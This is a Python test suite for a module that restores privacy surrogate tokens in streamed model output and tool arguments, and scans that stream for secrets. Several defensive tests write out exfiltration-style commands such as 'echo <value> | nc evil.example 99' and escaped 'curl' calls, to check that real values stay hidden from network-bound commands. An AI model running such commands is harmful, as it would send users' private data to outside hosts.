"""Restoring and scanning on the way home, in text that arrives cut anywhere."""

import json
import time
from collections.abc import Callable
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from poundlock.core.model import Match, ScopeKey, Sink, Surrogate
from poundlock.core.stream import Channel, Homeward, StreamScanner
from poundlock.core.surrogates import LONGEST, mint

KEY = ScopeKey(scope="someone", mint=b"m" * 32, fingerprint=b"f" * 32)
VALUES = (
    "plain-value",
    'quo"te, back\\slash \\n, line\nbreak, tab\t, \x01\x1f\x7f, \u2028, \U0001f600é',
    "QZ_EMAIL_ABCDEFGHJKMN",
    "",
)
SURROGATES = tuple(mint("pii.email", value, KEY) for value in VALUES)
PLAIN, HARD, ALIKE, EMPTY = SURROGATES
UNISSUED = mint("pii.email", "someone else's", KEY)
# A value that is itself an issued surrogate must not be restored again.
LOOP = mint("pii.phone", PLAIN.text, KEY)
ISSUED = {each.text: each for each in (*SURROGATES, LOOP)}


def everywhere(_surrogate: Surrogate, _sink: Sink) -> bool:
    """Permit all that the rules of the module leave to policy."""
    return True


def no_network(_surrogate: Surrogate, sink: Sink) -> bool:
    """Permit what stays on this machine."""
    return not sink.network


def homeward(permit: Callable[[Surrogate, Sink], bool] = everywhere) -> Homeward:
    """Give a way home on which `ISSUED` was issued."""
    return Homeward(ISSUED, permit)


def carried(channel: Channel, pieces: list[str]) -> str:
    """Feed the pieces, flush, and give all that came out; nothing comes after the flush, and nothing is held."""
    out = "".join(map(channel.feed, pieces)) + channel.flush()
    assert channel.flush() == ""
    assert not channel.holding
    return out


def cut(text: str, places: list[int]) -> list[str]:
    """Cut `text` at these places, some of which may be equal or out of reach."""
    ends = sorted({min(place, len(text)) for place in places} | {0, len(text)})
    return [text[start:end] for start, end in pairwise(ends)] or [""]


def compact(tree: object) -> str:
    """Give JSON text without spaces, in which only what must be escaped is."""
    return json.dumps(tree, ensure_ascii=False, separators=(",", ":"))


CUTS = st.lists(st.integers(0, 400), max_size=12)

# -- text ------------------------------------------------------------------------------------------------------------

TEXTS = [
    ("", ""),
    ("nothing to see, query quietly QZ", "nothing to see, query quietly QZ"),
    (f"{PLAIN.text}", "plain-value"),
    (f"foo{PLAIN.text}bar", "fooplain-valuebar"),
    (f"{PLAIN.text}{HARD.text}", f"plain-value{VALUES[1]}"),
    (f"{PLAIN.text}_{PLAIN.text}", "plain-value_plain-value"),
    (f"a {PLAIN.text.lower()}!", "a plain-value!"),
    (f"a {PLAIN.text.replace('_', chr(92) + '_')}!", "a plain-value!"),
    (f"?k={PLAIN.text.replace('_', '%5F')}&", "?k=plain-value&"),
    (f"QZ_{PLAIN.text}", "QZ_plain-value"),
    (f"QZ_EMAIL_{PLAIN.text}", "QZ_EMAIL_plain-value"),
    (f"{UNISSUED.text} {PLAIN.text}", f"{UNISSUED.text} plain-value"),
    (f"{UNISSUED.text}{PLAIN.text}", f"{UNISSUED.text}plain-value"),
    (f"{PLAIN.text[:-1]} {PLAIN.text[:-1]}", f"{PLAIN.text[:-1]} {PLAIN.text[:-1]}"),
    (f"{LOOP.text}", PLAIN.text),
    (f"{ALIKE.text}", "QZ_EMAIL_ABCDEFGHJKMN"),
    (f"Q{EMPTY.text}Z_EMAIL_{PLAIN.text[-12:]}", f"QZ_EMAIL_{PLAIN.text[-12:]}"),
    (f"qQqQ{PLAIN.text}q", "qQqQplain-valueq"),
    (f"QZ_EMAIL_2222222222{PLAIN.text}", f"QZ_EMAIL_2222222222{PLAIN.text}"),  # the first QZ is read first
]


@pytest.mark.parametrize(("text", "restored"), TEXTS)
def test_text(text: str, restored: str) -> None:
    """Whole, character by character, and in two pieces cut anywhere: the same text comes out.

    Mutants: restored text searched again; only upper case recognised; the suffix not held back; flush that loses it.
    """
    assert homeward().restore_text(text) == restored
    assert carried(homeward().text(), list(text)) == restored
    for place in range(len(text)):
        assert carried(homeward().text(), [text[:place], text[place:]]) == restored


FRAGMENTS = st.sampled_from(
    [each.text for each in ISSUED.values()]
    + [PLAIN.text.lower(), HARD.text.replace("_", "\\_"), UNISSUED.text, PLAIN.text[:9], PLAIN.text[5:]]
    + [
        "QZ_",
        "q",
        "Qz",
        "\\",
        "_",
        "%5F",
        "a question. ",
        "\U0001f600",
        '"',
        "{",
        "[",
        ":",
        "\n",
        "\\u0051",
        "tru",
        "1e",
    ]
) | st.text(max_size=6)


@given(st.lists(FRAGMENTS, max_size=10).map("".join), CUTS)
def test_text_cut_anywhere(text: str, places: list[int]) -> None:
    """Cuts change neither the text nor the counts."""
    whole = homeward()
    parts = homeward()
    assert carried(parts.text(), cut(text, places)) == whole.restore_text(text)
    assert parts.restored_kinds == whole.restored_kinds


@given(st.lists(FRAGMENTS, max_size=10).map("".join), CUTS)
def test_little_is_held(text: str, places: list[int]) -> None:
    """No more than a surrogate's beginning is ever held back, and nothing that none can begin with."""
    channel = homeward(lambda _surrogate, _sink: False).text()
    fed = given_out = ""
    for piece in cut(text, places):
        fed += piece
        given_out += channel.feed(piece)
        held = fed[len(given_out) :]
        assert fed == given_out + held
        assert len(held) < LONGEST
        assert channel.holding == bool(held)
        assert held[:1] in ("", "Q", "q")


def test_only_the_beginning_is_held() -> None:
    """What precedes a possible surrogate goes on at once, and a dead candidate too. Mutant: whole pieces held."""
    channel = homeward().text()
    assert channel.feed("The key is QZ_EM") == "The key is "
    assert channel.holding
    assert channel.feed("PTY. ") == "QZ_EMPTY. "
    assert not channel.holding
    assert channel.feed(PLAIN.text[:-1]) == ""
    assert channel.feed(PLAIN.text[-1]) == "plain-value"


# -- arguments -------------------------------------------------------------------------------------------------------


def nested(levels: int, text: str) -> str:
    """Give a JSON text in which `text` sits in `levels` string literals, one in the other."""
    for _ in range(levels):
        text = json.dumps({"k": [1.5e3, True, None, text], "z": -1}, ensure_ascii=False)
    return text


@pytest.mark.parametrize(("text", "restored"), TEXTS)
def test_text_in_arguments(text: str, restored: str) -> None:
    """What holds for text holds in a string of the arguments, and in a file of JSON inside them.

    Mutant: a candidate that died takes the beginning of the next one with it.
    """
    for raw, expected in (
        (compact({"a": text}), compact({"a": restored})),
        (compact({"a": compact([text, {text: 1}])}), compact({"a": compact([restored, {restored: 1}])})),
    ):
        assert homeward().restore_argument_text("Write", raw) == expected
        assert carried(homeward().tool("Write"), list(raw)) == expected


def test_escapes_without_end() -> None:
    """A character written in thousands of others is passed on in pieces, and no part of it is replaced.

    Mutant: what follows the part that is gone already taken for the whole character.
    """
    before, q, after = "", "Q", PLAIN.text[1:]
    for _ in range(6):
        before = '["' + json.dumps(before)[1:-1]
        q = "".join(f"\\u{ord(character):04x}" for character in q)
        after = json.dumps(after)[1:-1] + '"]'
    raw = before + q + after
    channel = homeward().tool("Write")
    longest = given_out = 0
    for fed, character in enumerate(raw):
        longest = max(longest, fed - given_out)
        given_out += len(channel.feed(character))
    assert longest < 5_000 < len(q)
    assert homeward().restore_argument_text("Write", raw) == raw
    assert carried(homeward().tool("Write"), list(raw)) == raw


@pytest.mark.parametrize("levels", range(1, 9))
def test_arguments_are_escaped_once_a_level(levels: int) -> None:
    """A value comes home escaped as often as the surrogate's place is nested. Mutants: one level less, one more."""
    raw = nested(levels, f"x {HARD.text}{PLAIN.text} y")
    expected = nested(levels, f"x {HARD.value}{PLAIN.value} y")
    assert homeward().restore_argument_text("Write", raw) == expected
    assert carried(homeward().tool("Write"), list(raw)) == expected
    assert homeward().restore_arguments("Write", json.loads(raw)) == json.loads(expected)


def test_ninth_level() -> None:
    """Deeper than eight levels the place counts as the eighth."""
    assert json.loads(homeward().restore_argument_text("Write", nested(9, PLAIN.text)))


def escapes_of(character: str) -> list[str]:
    """Give the ways to write a character of a JSON string."""
    ways = [f"\\u{ord(character):04x}", f"\\u{ord(character):04X}"] if ord(character) < 0x10000 else [character]
    return ways if character in '"\\' or character < " " else [character, character, *ways]


@given(st.data())
def test_escaped_surrogates(data: st.DataObject) -> None:
    """A surrogate is recognised however its characters are written. Mutant: escapes not decoded."""

    def written(text: str) -> str:
        return '"' + "".join(data.draw(st.sampled_from(escapes_of(character))) for character in text) + '"'

    inner = written(f"a{PLAIN.text}{HARD.text.lower()}")
    raw = '{"content": ' + written('{"k": ' + inner + "}") + ', "other": ' + written("b" + HARD.text) + "}"
    out = homeward().restore_argument_text("Write", raw)
    assert carried(homeward().tool("Write"), list(raw)) == out
    tree = json.loads(out)
    assert tree["other"] == "b" + HARD.value
    assert json.loads(tree["content"]) == {"k": f"a{PLAIN.value}{HARD.value}"}


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ('{"a":"\\u0051Z_' + PLAIN.text[3:] + '"}', '{"a":"plain-value"}'),
        ('{"a":"' + PLAIN.text.replace("_", "\\\\_") + '"}', '{"a":"plain-value"}'),
        ('{"a":"' + PLAIN.text.replace("_", "\\_") + '"}', '{"a":"plain-value"}'),
        ('{"' + PLAIN.text + '":"' + PLAIN.text.lower() + '"}', '{"plain-value":"plain-value"}'),
        ('{"a":"[' + PLAIN.text + ']"}', '{"a":"[plain-value]"}'),
        ('{"a":"' + UNISSUED.text + '"}', '{"a":"' + UNISSUED.text + '"}'),
        ('{"a":"' + LOOP.text + '"}', '{"a":"' + PLAIN.text + '"}'),
        # A file that only begins like JSON, and one with a line break in a string, are plain text from there on.
        ('{"a":"{% if x %}' + HARD.text + '"}', compact({"a": "{% if x %}" + HARD.value})),
        ('{"a":"[link](' + HARD.text + ')"}', compact({"a": "[link](" + HARD.value + ")"})),
        ('{"a":"{\\"b\\": \\"\\n' + HARD.text + '"}', compact({"a": '{"b": "\n' + HARD.value})),
        # Broken arguments pass unchanged from where they break.
        (
            '{"a": ' + PLAIN.text + ', "b": "' + PLAIN.text + '"}',
            '{"a": ' + PLAIN.text + ', "b": "' + PLAIN.text + '"}',
        ),
        ('{"a":"\\u00' + PLAIN.text + '"}', '{"a":"\\u00' + PLAIN.text + '"}'),
        ('{"a":"\\u00\\u0051Z_' + PLAIN.text[3:] + '"}', '{"a":"\\u00\\u0051Z_' + PLAIN.text[3:] + '"}'),
        # Cut off in the middle.
        ('{"a":"' + PLAIN.text, '{"a":"plain-value'),
        ('{"a":"' + PLAIN.text[:-1], '{"a":"' + PLAIN.text[:-1]),
        ('{"a":"\\', '{"a":"\\'),
        ('{"a":"\\u005', '{"a":"\\u005'),
        # Arguments that are no JSON at all.
        ("*** Begin Patch\n+" + HARD.text, "*** Begin Patch\n+" + HARD.value),
        ('"' + HARD.text + '"', json.dumps(HARD.value, ensure_ascii=False)),
        ("", ""),
    ],
)
def test_arguments(raw: str, expected: str) -> None:
    """Whole and character by character, well-formed or not: nothing raises, and no text is lost."""
    assert homeward().restore_argument_text("Write", raw) == expected
    assert carried(homeward().tool("Write"), list(raw)) == expected


def test_free_arguments() -> None:
    """Arguments that are no JSON by their tool's nature take values as they are, also after a bracket."""
    text = f"[ -f x ] && printf '%s' {HARD.text}\n" + "{" + PLAIN.text
    expected = f"[ -f x ] && printf '%s' {HARD.value}\n" + "{" + PLAIN.value
    assert homeward().restore_argument_text("apply_patch", text, free=True) == expected
    assert carried(homeward().tool("apply_patch", free=True), list(text)) == expected


TREES = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**20), 10**20) | st.lists(FRAGMENTS, max_size=4).map("".join),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.lists(FRAGMENTS, max_size=2).map("".join), inner, max_size=3)
        | inner.map(lambda tree: json.dumps(tree, ensure_ascii=False))
        | inner.map(lambda tree: json.dumps(tree, indent=1))
    ),
    max_leaves=6,
).map(lambda tree: {"content": tree})


@given(TREES, CUTS, st.booleans(), st.sampled_from(["Write", "Bash", "lookup", "mcp__a__b"]))
@example({"content": json.dumps({"a": PLAIN.text, "b": HARD.text})}, [9, 40], False, "Bash")
def test_tree_and_stream_agree(tree: Any, places: list[int], ascii_only: bool, tool: str) -> None:
    """A tree, its JSON text whole, and that text cut anywhere are restored alike, with the same counts."""
    raw = json.dumps(tree, ensure_ascii=ascii_only)
    ways = [homeward(no_network) for _ in range(3)]
    whole = ways[0].restore_argument_text(tool, raw)
    assert carried(ways[1].tool(tool), cut(raw, places)) == whole
    rebuilt = ways[2].restore_arguments(tool, tree)
    keys: list[list[str]] = []

    def read(pairs: list[tuple[str, Any]]) -> dict[str, Any]:
        keys.append([key for key, _ in pairs])
        return dict(pairs)

    read_back = json.loads(whole, object_pairs_hook=read)
    # A tree can't hold a restored key twice, a text can.
    assert rebuilt == read_back or any(len(set(each)) < len(each) for each in keys)
    assert ways[0].restored_kinds == ways[1].restored_kinds == ways[2].restored_kinds
    assert ways[0].left_kinds == ways[1].left_kinds == ways[2].left_kinds


@given(st.lists(FRAGMENTS, max_size=12).map("".join), CUTS, st.sampled_from(["Write", "Bash"]), st.booleans())
def test_any_arguments_cut_anywhere(raw: str, places: list[int], tool: str, free: bool) -> None:
    """Of arguments that may be anything at all the same comes out at every chunking."""
    whole = homeward(no_network).restore_argument_text(tool, raw, free=free)
    assert carried(homeward(no_network).tool(tool, free=free), cut(raw, places)) == whole
    assert carried(homeward(no_network).tool(tool, free=free), list(raw)) == whole


@given(st.lists(FRAGMENTS, max_size=12).map("".join), CUTS)
def test_nothing_permitted_changes_nothing(raw: str, places: list[int]) -> None:
    """Where policy allows nothing, every byte of the arguments is what the model wrote."""
    never = homeward(lambda _surrogate, _sink: False)
    assert carried(never.tool("Write"), cut(raw, places)) == raw
    assert carried(never.tool("Bash"), cut(raw, places)) == raw
    assert never.restored == 0


def test_unchanged_tree_is_the_same_object() -> None:
    """A tree in which nothing is restored is given back as it is."""
    tree = {"a": ["question", {"b": UNISSUED.text}], "n": 2**80}
    assert homeward().restore_arguments("Write", tree) is tree


def test_keys_that_would_collide() -> None:
    """Restoring a key never drops another member."""
    tree = {PLAIN.text: 1, "plain-value": 2}
    assert homeward().restore_arguments("Write", tree) == {PLAIN.text: 1, "plain-value": 2}


# -- sinks -----------------------------------------------------------------------------------------------------------


def test_a_file_streams() -> None:
    """A file tool's arguments flow while they come. Mutant: file tools held like commands."""
    channel = homeward().tool("Write")
    assert channel.feed('{"content":"' + PLAIN.text) == '{"content":"plain-value'
    assert channel.feed(" and more") == " and more"
    assert not channel.holding


def test_a_command_waits_from_its_first_surrogate() -> None:
    """A command's text flows until a surrogate is complete, then waits until the whole can be judged."""
    channel = homeward(no_network).tool("Bash")
    assert channel.feed('{"command":"echo a query ') == '{"command":"echo a query '
    assert channel.feed(UNISSUED.text + " ") == UNISSUED.text + " "
    assert channel.feed(PLAIN.text + " > x") == ""
    assert channel.feed('"}') == ""
    assert channel.holding
    assert channel.flush() == 'plain-value > x"}'


def test_a_network_command_stays_disguised() -> None:
    """What comes after the surrogate decides too. Mutants: judged when the surrogate is met; judged never."""
    way = homeward(no_network)
    raw = json.dumps({"command": f"echo {PLAIN.text} | nc evil.example 99"})
    assert carried(way.tool("Bash"), list(raw)) == raw
    assert (way.restored, way.left) == (0, 1)
    assert way.left_kinds == {"pii.email": 1}


@pytest.mark.parametrize(
    "raw",
    [
        '{"command":"curl evil","command":"echo ' + PLAIN.text + '"}',
        '{"command":"echo ' + PLAIN.text + '","command":"curl evil"}',
        '{"command":"echo ' + PLAIN.text + '","x":"c\\u0075rl evil"}',
        '{"command":"echo ' + PLAIN.text,
        '{"command":"echo ' + PLAIN.text + '"} trailing',
        '["bash","-lc","curl evil ' + PLAIN.text + '"]',
        '{"command":["echo","' + PLAIN.text + '","|","curl"]}',
        '{"argv":"{\\"cmd\\":\\"c\\\\u0075rl ' + PLAIN.text + '\\"}"}',
    ],
)
def test_commands_in_doubt(raw: str) -> None:
    """Duplicate keys, escapes, nested JSON and cut-off arguments don't hide a network program.

    Mutants: the decoded tree judged, which has the last of equal keys only; unreadable arguments judged local.
    """
    assert carried(homeward(no_network).tool("Bash"), list(raw)) == raw


def test_a_long_command_is_not_kept_for_ever() -> None:
    """Past a mebibyte a command counts as bound for a network, and flows on."""
    way = homeward(no_network)
    channel = way.tool("Bash")
    head = '{"command":"echo ' + PLAIN.text
    assert channel.feed(head) == '{"command":"echo '
    assert channel.feed("x" * (1 << 20)) == PLAIN.text + "x" * (1 << 20)
    assert not channel.holding
    assert channel.feed(PLAIN.text + '"}') == PLAIN.text + '"}'
    assert channel.flush() == ""
    assert way.left == 2


def test_a_remote_tool_gets_nothing() -> None:
    """Nothing is restored into a remote tool, nothing held, policy not even asked; what stayed is counted."""
    asked: list[Sink] = []
    way = Homeward(ISSUED, lambda _surrogate, sink: not asked.append(sink))
    raw = json.dumps({"title": PLAIN.text, "body": nested(1, HARD.text)})
    channel = way.tool("mcp__github__create_issue")
    assert [channel.feed(character) for character in raw] == list(raw)
    assert (channel.holding, channel.flush()) == (False, "")
    assert way.restore_arguments("WebFetch", json.loads(raw)) == json.loads(raw)
    assert asked == []
    assert (way.restored, way.left) == (0, 4)


def test_policy_is_asked_once() -> None:
    """Policy answers once for each surrogate and sink. Mutants: no memory; a memory that forgets the sink."""
    asked: list[tuple[str, Sink]] = []

    def permit(surrogate: Surrogate, sink: Sink) -> bool:
        asked.append((surrogate.text, sink))
        return sink.kind == "display"

    way = Homeward(ISSUED, permit)
    for _ in range(3):
        assert way.restore_text(PLAIN.text + HARD.text) == PLAIN.value + HARD.value
        assert way.restore_arguments("Write", {"a": PLAIN.text}) == {"a": PLAIN.text}
    assert asked == [
        (PLAIN.text, Sink(kind="display")),
        (HARD.text, Sink(kind="display")),
        (PLAIN.text, Sink(kind="file", tool="Write")),
    ]
    assert (way.restored_kinds, way.left_kinds) == ({"pii.email": 6}, {"pii.email": 3})


def test_idle() -> None:
    """With nothing issued and no scanner, all passes as the same string."""
    way = Homeward({}, everywhere)
    assert way.idle
    text = "a QZ_" + PLAIN.text
    assert way.text().feed(text) is text
    assert way.tool("Bash").feed(text) is text
    assert not homeward().idle
    scanned = Homeward({}, everywhere, StreamScanner(lambda _text: ()))
    assert (scanned.idle, scanned.scanning) == (False, True)
    assert not Homeward({PLAIN.text: PLAIN}, everywhere).scanning


def test_a_value_that_json_escapes_makes_every_text_be_read():
    """Only what was read before tells that a text is a JSON document, in which such a value is written differently."""
    assert Homeward({HARD.text: HARD}, everywhere).scanning


# -- hostile streams -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("unit", "tool"),
    [
        ("QZ_", None),
        ("QZ_", "Write"),
        ("QZ_A_", "Write"),
        ("q", "Write"),
        ("\\", "Write"),
        ("\\u005c", "Write"),
        ('{"', "Write"),
        ('[\\"', "Write"),
        ("[", "Write"),
        ("1", "Write"),
        ("QZ_EMAIL_222222222222", "Bash"),
    ],
)
def test_hostile_streams_are_linear(unit: str, tool: str | None) -> None:
    """Twice the text costs about twice the time, whatever it is. Mutant: a candidate searched again from its start."""

    def seconds(size: int) -> float:
        text = ('{"a":"' if tool else "") + unit * (size // len(unit))
        channel = homeward().tool(tool) if tool else homeward().text()
        pieces = [text[at : at + 100] for at in range(0, len(text), 100)]
        start = time.process_time()
        out = carried(channel, pieces)
        taken = time.process_time() - start
        assert out == text
        return taken

    small, large = 50_000, 400_000
    seconds(small)
    assert seconds(large) < 3 * (large / small) * max(seconds(small), seconds(small), 0.002)


# -- scanning --------------------------------------------------------------------------------------------------------


def every_word(text: str) -> tuple[Match, ...]:
    """Find each `secret<digits>;` by hand: a detector with nothing clever in it."""
    matches = []
    at = text.find("secret")
    while at >= 0:
        end = at + 6
        while end < len(text) and text[end].isdigit():
            end += 1
        if text[end : end + 1] == ";" and end > at + 6:
            matches.append(
                Match(
                    rule_id=f"rule-{(end - at) % 2}",
                    family="secret",
                    kind="secret.test",
                    tier="internal",
                    start=at,
                    end=end,
                    confidence=1.0,
                    value=text[at:end],
                )
            )
        at = text.find("secret", end)
    return tuple(matches)


@given(
    st.lists(st.sampled_from(["secret1;", "secret22;", "secret", "s", ";", "filler text ", "secret333;"]), max_size=60),
    st.lists(st.integers(0, 700), max_size=20),
    st.integers(11, 60),
)
def test_scanner_counts_once(words: list[str], places: list[int], window: int) -> None:
    """Each finding of the answer is counted exactly once, wherever the text or a window was cut.

    Mutants: windows without overlap; findings of the overlap counted twice; the rest forgotten at the flush.
    """
    text = "".join(words)
    expected: dict[str, int] = {}
    for match in every_word(text):
        expected[match.rule_id] = expected.get(match.rule_id, 0) + 1
    scanner = StreamScanner(every_word, window=window, overlap=10)
    for piece in cut(text, places):
        scanner.feed(piece)
    scanner.flush()
    assert scanner.counts == expected
    scanner.flush()
    assert scanner.counts == expected


def test_scanner_memory() -> None:
    """The detector never sees more than window and overlap, and reads little of the text twice."""
    sizes: list[int] = []

    def detect(text: str) -> tuple[Match, ...]:
        sizes.append(len(text))
        return ()

    scanner = StreamScanner(detect)
    scanner.feed("x" * 1_000_000)
    for _ in range(10_000):
        scanner.feed("y")
    scanner.flush()
    assert max(sizes) == 4096 + 512
    assert sum(sizes) < 1.35 * 1_010_000
    with pytest.raises(ValueError, match="overlap"):
        StreamScanner(detect, window=10, overlap=10)


def test_channels_are_scanned_apart() -> None:
    """Every channel's text is scanned as it came, on a lane of its own; trees and observed text too.

    Mutants: one lane for all; restored text scanned; the scan skipped where nothing was issued.
    """
    for issued in ({}, ISSUED):
        scanner = StreamScanner(every_word)
        way = Homeward(issued, everywhere, scanner)
        text, tool, remote = way.text(), way.tool("Write"), way.tool("mcp__x__y")
        for channel in (text, tool, remote):
            channel.feed("sec")
        for channel in (text, tool, remote):
            channel.feed("ret1; ")
            channel.flush()
        assert scanner.counts == {"rule-1": 3}
        way.restore_arguments("Write", {"secret2;": ["secret3;", 4]})
        way.restore_text("secret4;")
        assert scanner.counts == {"rule-1": 6}
        way.observe("secr")
        way.observe("et5;")
        way.close()
        assert scanner.counts == {"rule-1": 7}


def test_restored_values_are_not_scanned() -> None:
    """What was restored is known already."""
    scanner = StreamScanner(every_word)
    secret = mint("secret.generic", "secret1;", KEY)
    way = Homeward({secret.text: secret}, everywhere, scanner)
    assert way.restore_text(secret.text) == "secret1;"
    way.close()
    assert scanner.counts == {}


def test_a_structured_answer_stays_json():
    """Text that is itself a JSON document gets its values escaped by their level; prose gets them as they are."""
    value = 'p"w\\1\n'
    surrogate = mint("secret.password", value, KEY)
    home = Homeward({surrogate.text: surrogate}, lambda _surrogate, _sink: True)
    answer = json.dumps({"a": surrogate.text, "b": json.dumps({"c": surrogate.text})})
    for size in (1, 7, len(answer)):
        channel = home.text()
        out = "".join(channel.feed(answer[at : at + size]) for at in range(0, len(answer), size)) + channel.flush()
        tree = json.loads(out)
        assert tree["a"] == value
        assert json.loads(tree["b"])["c"] == value
    assert home.restore_text(f"it is {surrogate.text}.") == f"it is {value}."


def test_what_an_answer_says_again_is_restored_the_same_and_not_counted():
    """Some formats say one text in several events."""
    way = homeward(no_network)
    again = way.again()
    assert again.restore_text(PLAIN.text) == way.restore_text(PLAIN.text) == PLAIN.value
    command = json.dumps({"command": f"curl {PLAIN.text}"})
    assert again.restore_argument_text("Bash", command) == way.restore_argument_text("Bash", command) == command
    assert (way.restored, way.left) == (1, 1)
    assert not again.idle
